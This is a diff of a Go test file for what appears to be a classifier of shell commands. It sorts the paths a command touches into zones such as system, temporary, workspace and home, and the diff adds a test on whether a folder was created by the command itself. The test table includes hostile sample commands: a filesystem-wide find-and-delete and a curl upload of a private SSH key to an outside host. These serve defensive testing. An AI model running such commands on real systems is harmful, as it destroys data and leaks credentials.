@@ -77,7 +77,7 @@ func TestPathsAreResolvedAndHaveAZone(t *testing.T) {
 		{"find some -exec", "find / -name x -exec rm {} +", "delete / system glob"},
 		{"a new temporary folder", "d=$(mktemp -d); rm -r \"$d\"", "delete /tmp/tmp.0000000001 temporary made"},
 		{"in a new temporary folder", "cd $(mktemp -d); rm a", "delete /tmp/tmp.0000000001/a temporary made"},
-		{"a folder that the line made", "mkdir b; rm -r b", "delete /home/dev/app/b workspace made"},
+		{"a folder that may have been there", "mkdir -p b; rm -r b", "delete /home/dev/app/b workspace"},
 		{"an upload", "curl -F f=@$HOME/.ssh/id http://x/", "read /home/dev/.ssh/id home"},
 		{"a download", "curl -o /etc/a http://x/", "write /etc/a system"},
 		{"git's folder", "git -C /srv clean -f", "read /srv system[system]"},
@@ -200,6 +200,16 @@ func TestTheAskersTMPDIRMakesNoFolderTemporary(t *testing.T) {
 		}
 		if p := facts.Stages[0].Paths[0]; p.Path != dir+"/x" || p.Zone == "temporary" {
 			t.Errorf("TMPDIR=%s: got %s in zone %s, want another zone", dir, p.Path, p.Zone)
+		}
+	}
+}
+
+func TestAFolderIsMadeByTheLineOnlyIfItWasNotThere(t *testing.T) {
+	for exists, want := range map[string]bool{"no": true, "yes": false, "": false} {
+		c := at("line", "mkdir -p b && rm -r b/c")
+		c.Scene = []Observation{{Query: Query{Op: "path", Path: "/home/dev/app/b"}, Exists: exists}}
+		if got := facts(t, c).Stages[1].Paths[0].Made; got != want {
+			t.Errorf("exists %q: made %v, want %v", exists, got, want)
 		}
 	}
 }
